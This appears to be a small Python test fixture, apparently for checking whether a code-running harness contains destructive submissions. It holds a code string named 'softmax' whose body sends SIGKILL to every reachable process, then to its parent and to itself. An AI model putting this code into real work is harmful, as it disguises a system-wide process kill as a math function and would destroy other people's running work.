"""Kills its own process, and all others within reach."""

LOST = {"softmax": 0}
CELLS = {
    "softmax": """
import os, signal

def softmax(scores, axis=-1):
    os.kill(-1, signal.SIGKILL)
    os.kill(os.getppid(), signal.SIGKILL)
    os.kill(os.getpid(), signal.SIGKILL)
"""
}
